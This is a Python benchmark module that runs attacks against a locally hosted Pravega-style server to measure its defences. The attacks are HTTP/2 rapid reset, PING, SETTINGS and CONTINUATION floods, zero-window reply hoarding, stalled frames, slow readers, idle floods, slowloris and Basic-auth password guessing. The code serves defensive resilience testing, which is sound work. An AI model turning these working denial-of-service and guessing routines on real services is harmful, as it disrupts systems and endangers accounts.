"""The attacks of bench/hostile.py (issue 32), each run in a process of its own so that the
attacker's CPU is not the bench's probe loop (the attack routines are those of the tests under
tests/e2e/test_hostile_*.py and tests/security/test_hostile_passwords.py, copied: they are private
to those files).

    .venv/bin/python -m bench._attacks <attack> <port> [--scale 1.0] [--limit-s 120]

It prints "ready" once the attack is under way, keeps it up until its standard input closes (or
`--limit-s` has passed), then prints one JSON line: what the server did to it (connections cut
off, refused, answers by status).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import socket
import statistics
import struct
import sys
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from grpclib.client import Channel
from grpclib.exceptions import GRPCError
from hpack import Encoder

from app.api.grpc.proto import controller_pb2 as pb
from app.api.grpc.proto.controller_grpc import ControllerServiceStub
from app.segmentstore.wire import commands as wc
from app.segmentstore.wire.codec import encode
from tests.support.h2_frames import (
    CONTINUATION,
    ENHANCE_YOUR_CALM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    frame,
    goaway_code,
    rapid_reset_batches,
    read_frames,
    unary_calls,
)
from tests.support.hostile import BoundChannel, reader_ended, socket_ended

Outcome = dict[str, Any]

# --- HTTP/2 on the gRPC port (tests/e2e/test_hostile_h2.py) ------------------------------------

H2_PATH = "/io.pravega.controller.stream.api.grpc.v1.ControllerService/getControllerServerList"
# The measurement: 50,000 streams opened and cancelled on one connection.
RAPID_RESET_STREAMS = 50_000
CONTROL_FRAMES = 200_000
SEND_BYTES = 256 * 1024
BATCH_STREAMS = 500
# What h2 alone would buffer per connection (its CONTINUATION backlog of 64 frames, less one).
CONTINUATION_FRAMES = 63


@dataclass
class _H2Connection:
    goaway_code: int | None = None
    closed_by_server: bool = False
    done: threading.Event = field(default_factory=threading.Event)


def _read_until_closed(sock: socket.socket, conn: _H2Connection) -> None:
    def seen(kind: int, _flags: int, _stream_id: int, payload: bytes) -> None:
        if kind == GOAWAY and conn.goaway_code is None:
            conn.goaway_code = goaway_code(payload)

    try:
        conn.closed_by_server = read_frames(sock, seen)
    finally:
        conn.done.set()


def _h2_connection(port: int, chunks: Iterator[bytes | memoryview], stop: threading.Event) -> _H2Connection:
    """Sends `chunks` on one connection as fast as the socket takes them, until the server closes
    it (or `stop`); blocking, for a thread."""
    conn = _H2Connection()
    sock = socket.create_connection(("127.0.0.1", port))
    reader = threading.Thread(target=_read_until_closed, args=(sock, conn), daemon=True)
    reader.start()
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for chunk in chunks:
            if conn.done.is_set() or stop.is_set():
                break
            sock.sendall(chunk)
        while not conn.done.wait(0.1) and not stop.is_set():
            pass
    except OSError:
        conn.done.wait(5.0)
    finally:
        sock.close()
        reader.join(timeout=5)
    return conn


def _rapid_reset_payload(streams: int) -> bytes:
    return b"".join(rapid_reset_batches(H2_PATH, streams, BATCH_STREAMS))


def _h2_attack(port: int, payload: bytes, stop: threading.Event) -> Outcome:
    """New connections one after another, each sending `payload`, until `stop`."""
    view = memoryview(payload)
    connections: list[_H2Connection] = []
    while not stop.is_set():
        chunks = (view[i : i + SEND_BYTES] for i in range(0, len(view), SEND_BYTES))
        connections.append(_h2_connection(port, chunks, stop))
    return {
        "connections": len(connections),
        "goaway_enhance_your_calm": sum(c.goaway_code == ENHANCE_YOUR_CALM for c in connections),
        "closed_by_server": sum(c.closed_by_server for c in connections),
    }


async def rapid_reset(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    payload = _rapid_reset_payload(RAPID_RESET_STREAMS)
    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)


async def ping_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    payload = frame(PING, 0, 0, b"12345678") * CONTROL_FRAMES
    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)


async def settings_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    payload = frame(SETTINGS, 0, 0) * CONTROL_FRAMES
    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)


async def continuation_flood(
    port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event
) -> Outcome:
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB that never end the block
    (CVE-2024-27316 class), on new connection after new connection."""
    encoder = Encoder()
    block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", H2_PATH)])
    endless = frame(CONTINUATION, 0, 1, b"\x00" * 16_384) * CONTINUATION_FRAMES
    payload = frame(HEADERS, 0, 1, block) + endless
    return await _in_thread(lambda halt: _h2_attack(port, payload, halt), ready, stop)


async def _in_thread(
    attack: Callable[[threading.Event], Outcome], ready: Callable[[], None], stop: asyncio.Event
) -> Outcome:
    halt = threading.Event()
    running = asyncio.ensure_future(asyncio.to_thread(attack, halt))
    ready()
    await stop.wait()
    halt.set()
    return await running


# --- replies not taken on the gRPC port (tests/e2e/test_hostile_h2_windows.py) -----------------

LIST_SCOPES = "/io.pravega.controller.stream.api.grpc.v1.ControllerService/listScopes"
# A page of 1,000 scopes with the longest names: each listScopes reply is about 250 KiB.
BIG_SCOPES = 1_000
ZERO_WINDOW_CONNECTIONS = 16
ZERO_WINDOW_STREAMS = 100
ZERO_WINDOW_BATCH = 10
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


async def _create_big_scopes(port: int) -> None:
    channel = Channel("127.0.0.1", port)
    try:
        stub = ControllerServiceStub(channel)
        names = [f"z{n:04d}".ljust(255, "x") for n in range(BIG_SCOPES)]
        for start in range(0, BIG_SCOPES, 50):
            batch = names[start : start + 50]
            await asyncio.gather(*(stub.createScope(pb.ScopeInfo(scope=name), timeout=60) for name in batch))
    finally:
        channel.close()


@dataclass
class _Holder:
    replies_started: int = 0
    goaway_code: int | None = None
    closed_by_server: bool = False
    done: threading.Event = field(default_factory=threading.Event)


def _list_scopes_batches() -> Iterator[bytes]:
    encoder = Encoder()
    for first in range(0, ZERO_WINDOW_STREAMS, ZERO_WINDOW_BATCH):
        yield unary_calls(LIST_SCOPES, (2 * n + 1 for n in range(first, first + ZERO_WINDOW_BATCH)), encoder)


def _hold_zero_window(port: int, stop: threading.Event) -> _Holder:
    """Asks for listScopes replies with every stream window zero, ten calls every 0.5 s, and never
    takes one, until the server closes the connection or `stop`."""
    holder = _Holder()

    def seen(kind: int, _flags: int, stream_id: int, payload: bytes) -> None:
        if kind == HEADERS and stream_id:
            holder.replies_started += 1
        elif kind == GOAWAY and holder.goaway_code is None:
            holder.goaway_code = goaway_code(payload)

    def read() -> None:
        try:
            holder.closed_by_server = read_frames(sock, seen)
        finally:
            holder.done.set()

    sock = socket.create_connection(("127.0.0.1", port))
    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    try:
        zero_window = struct.pack("!HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, zero_window))
        for batch in _list_scopes_batches():
            if holder.done.is_set() or stop.is_set():
                break
            sock.sendall(batch)
            stop.wait(0.5)
        while not holder.done.wait(0.1) and not stop.is_set():
            pass
    except OSError:
        holder.done.wait(5.0)
    finally:
        sock.close()
        reader.join(timeout=5)
    return holder


def _zero_window_attack(port: int, connections: int, stop: threading.Event) -> Outcome:
    holders: list[_Holder] = []

    def one_connection() -> None:
        # A connection cut off comes back, for as long as the attack lasts.
        while not stop.is_set():
            holders.append(_hold_zero_window(port, stop))

    threads = [threading.Thread(target=one_connection, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {
        "connections": len(holders),
        "replies_started": sum(h.replies_started for h in holders),
        "goaway_enhance_your_calm": sum(h.goaway_code == ENHANCE_YOUR_CALM for h in holders),
    }


async def zero_window(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    await _create_big_scopes(port)
    connections = max(1, round(ZERO_WINDOW_CONNECTIONS * scale))
    return await _in_thread(lambda halt: _zero_window_attack(port, connections, halt), ready, stop)


# --- the store port (tests/e2e/test_hostile_store_port.py) ------------------------------------

STALLED_FRAMES = 40
SLOW_READERS = 100
READS_PER_SLOW_READER = 50
# What the slow readers read: bench/hostile.py writes 8 MiB to it before the baseline.
BIG_SEGMENT = "hostile/bench/big.#epoch.0"
IDLE_CONNECTIONS = 1100


def _hello() -> bytes:
    return encode(wc.Hello(wc.WIRE_VERSION, wc.OLDEST_COMPATIBLE_VERSION))


async def _stalledframe(port: int, hello: bool) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A header announcing Pravega's largest frame, all of it but 100 bytes, then nothing."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    if hello:
        writer.write(_hello())
    writer.write(struct.pack(">ii", wc.UpdateTableEntries.TYPE, wc.MAX_WIRECOMMAND_SIZE))
    chunk = bytes(1 << 20)
    left = wc.MAX_WIRECOMMAND_SIZE - 100
    with contextlib.suppress(ConnectionError):
        while left > 0:
            writer.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)
            await writer.drain()
    return reader, writer


async def _count_ended(connections: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]) -> int:
    ended = await asyncio.gather(*(reader_ended(reader, 0.2) for reader, _ in connections))
    for _, writer in connections:
        writer.close()
    return sum(ended)


async def stalled_frames(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    count = max(2, round(STALLED_FRAMES * scale))
    connections = await asyncio.gather(*(_stalledframe(port, hello=n % 2 == 1) for n in range(count)))
    ready()
    await stop.wait()
    return {
        "connections": count,
        "before_hello": count - count // 2,
        "ended_by_server": await _count_ended(connections),
    }


async def _slow_reader(port: int, requests: int) -> socket.socket:
    """Asks for `requests` 2 MiB reads and never reads a byte (a tiny receive window: the replies
    stay queued in the server, not in the kernel)."""
    loop = asyncio.get_running_loop()
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await loop.sock_connect(sock, ("127.0.0.1", port))
    asks = [_hello()] + [encode(wc.ReadSegment(BIG_SEGMENT, 0, 2 << 20, "", n)) for n in range(requests)]
    await loop.sock_sendall(sock, b"".join(asks))
    return sock


async def slow_readers(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    count = max(2, round(SLOW_READERS * scale))
    socks = await asyncio.gather(*(_slow_reader(port, READS_PER_SLOW_READER) for _ in range(count)))
    ready()
    await stop.wait()
    ended = sum(socket_ended(sock) for sock in socks)
    for sock in socks:
        sock.close()
    return {"connections": count, "reads_asked": count * READS_PER_SLOW_READER, "ended_by_server": ended}


async def _open(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    # Past the listener's backlog a connect waits for ever: each is given a moment.
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(2.0):
            return await asyncio.open_connection("127.0.0.1", port)
    return None


async def idle_flood(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    """Connections that never send a byte (a store port or a REST port alike)."""
    count = max(2, round(IDLE_CONNECTIONS * scale))
    opened = [c for c in await asyncio.gather(*(_open(port) for _ in range(count))) if c is not None]
    refused_at_once = sum(await asyncio.gather(*(reader_ended(reader, 0.5) for reader, _ in opened)))
    ready()
    await stop.wait()
    return {
        "tried": count,
        "connected": len(opened),
        "ended_at_once": refused_at_once,
        "ended_by_server": await _count_ended(opened),
    }


# --- the REST port (tests/e2e/test_hostile_rest.py) --------------------------------------------

SLOWLORIS = 200


async def _slowloris(port: int, stop: asyncio.Event) -> bool:
    """Sends a request's headers one byte a second until `stop`; whether the server closed first."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return True
    request = b"GET /v1/health/readiness HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
    try:
        for byte in request:
            if stop.is_set():
                return False
            writer.write(bytes([byte]))
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1.0):
                    if await reader.read(1) == b"":
                        return True
        return False
    except ConnectionError:
        return True
    finally:
        writer.close()


async def slowloris(port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event) -> Outcome:
    count = max(2, round(SLOWLORIS * scale))
    trickles = [asyncio.create_task(_slowloris(port, stop)) for _ in range(count)]
    ready()
    await stop.wait()
    return {"connections": count, "ended_by_server": sum(await asyncio.gather(*trickles))}


# --- password guessing (tests/security/test_hostile_passwords.py) ------------------------------

# The attacker's loopback address (Linux answers the whole 127/8), the probe's is 127.0.0.1.
ATTACKER_ADDRESS = "127.0.0.2"
GUESSES_IN_FLIGHT = 64
GUESS_PAUSE_S = 0.05
GUESSED_ACCOUNT = "victim"


async def password_guessing(
    port: int, scale: float, ready: Callable[[], None], stop: asyncio.Event
) -> Outcome:
    channel = BoundChannel("127.0.0.1", port, ATTACKER_ADDRESS)
    stub = ControllerServiceStub(channel)
    latencies: dict[str, list[float]] = {}
    counter = 0

    async def guesser() -> None:
        nonlocal counter
        while True:
            counter += 1
            token = base64.b64encode(f"{GUESSED_ACCOUNT}:guess-{counter}".encode()).decode()
            started = time.perf_counter()
            try:
                await stub.checkScopeExists(
                    pb.ScopeInfo(scope="guarded"), metadata={"authorization": "Basic " + token}
                )
                status = "OK"
            except GRPCError as exc:
                status = exc.status.name
            latencies.setdefault(status, []).append(time.perf_counter() - started)
            await asyncio.sleep(GUESS_PAUSE_S)

    guessers = [asyncio.create_task(guesser()) for _ in range(max(2, round(GUESSES_IN_FLIGHT * scale)))]
    ready()
    await stop.wait()
    for task in guessers:  # calls still waiting are abandoned, as an attacker would
        task.cancel()
    await asyncio.gather(*guessers, return_exceptions=True)
    channel.close()
    return {
        status: f"{len(values)} (p50 {statistics.median(values) * 1000:.0f} ms)"
        for status, values in sorted(latencies.items())
    }


Attack = Callable[[int, float, Callable[[], None], asyncio.Event], Awaitable[Outcome]]
ATTACKS: dict[str, Attack] = {
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "stalled-frames": stalled_frames,
    "slow-readers": slow_readers,
    "idle-flood": idle_flood,
    "slowloris": slowloris,
    "password-guessing": password_guessing,
    "zero-window": zero_window,
    "continuation-flood": continuation_flood,
}


async def main(name: str, port: int, scale: float, limit_s: float) -> None:
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    # The bench closes our standard input to end the attack.
    threading.Thread(
        target=lambda: (sys.stdin.read(), loop.call_soon_threadsafe(stop.set)), daemon=True
    ).start()
    loop.call_later(limit_s, stop.set)
    outcome = await ATTACKS[name](port, scale, lambda: print("ready", flush=True), stop)
    print(json.dumps(outcome), flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("--scale", type=float, default=1.0, help="connections, as a share of the tests'")
    parser.add_argument("--limit-s", type=float, default=120.0)
    args = parser.parse_args()
    asyncio.run(main(args.attack, args.port, args.scale, args.limit_s))
